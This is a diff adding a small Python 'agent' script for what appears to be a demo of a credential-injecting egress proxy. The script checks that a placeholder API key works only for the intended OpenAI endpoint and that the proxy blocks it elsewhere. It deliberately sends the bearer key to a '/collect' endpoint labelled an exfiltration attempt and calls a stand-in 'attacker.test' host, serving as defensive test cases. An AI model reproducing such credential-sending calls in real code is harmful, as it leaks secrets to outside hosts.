@@ -1,0 +1,55 @@
+"""The demo's agent: untrusted code that only holds a placeholder. Standard library only."""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+import urllib.error
+import urllib.request
+
+
+def call(method: str, url: str, body: dict[str, object] | None = None) -> tuple[int, str]:
+    data = json.dumps(body).encode() if body is not None else None
+    req = urllib.request.Request(url, data=data, method=method)
+    req.add_header("Authorization", f"Bearer {os.environ['OPENAI_API_KEY']}")
+    req.add_header("Content-Type", "application/json")
+    try:
+        with urllib.request.urlopen(req, timeout=10) as resp:
+            return resp.status, resp.read().decode()
+    except urllib.error.HTTPError as e:  # a 403 from the proxy
+        return e.code, e.read().decode()
+    except urllib.error.URLError as e:  # a refused CONNECT surfaces here
+        return 0, str(e.reason)
+
+
+def main() -> int:
+    print("[agent] 1. POST https://api.openai.com/v1/chat/completions with my placeholder key", flush=True)
+    status, text = call(
+        "POST", "https://api.openai.com/v1/chat/completions", {"model": "demo", "stream": True, "messages": []}
+    )
+    words = [
+        json.loads(line[6:])["choices"][0]["delta"]["content"]
+        for line in text.splitlines()
+        if line.startswith("data: {")
+    ]
+    print(f"[agent]    -> {status}, streamed answer: {''.join(words)!r}", flush=True)
+    ok = status == 200 and bool(words)
+
+    print(
+        "[agent] 2. send the same key to https://tools.example.com/collect (allowed host, key not bound there)",
+        flush=True,
+    )
+    status, text = call("POST", "https://tools.example.com/collect", {"note": "exfiltration attempt"})
+    print(f"[agent]    -> {status} {text.strip()}", flush=True)
+    ok = ok and status == 403 and "secret_not_bound" in text
+
+    print("[agent] 3. GET https://attacker.test/ (not in the allowlist)", flush=True)
+    status, text = call("GET", "https://attacker.test/")
+    print(f"[agent]    -> refused: {text.strip()}", flush=True)
+    ok = ok and status in (0, 403)
+    return 0 if ok else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main())
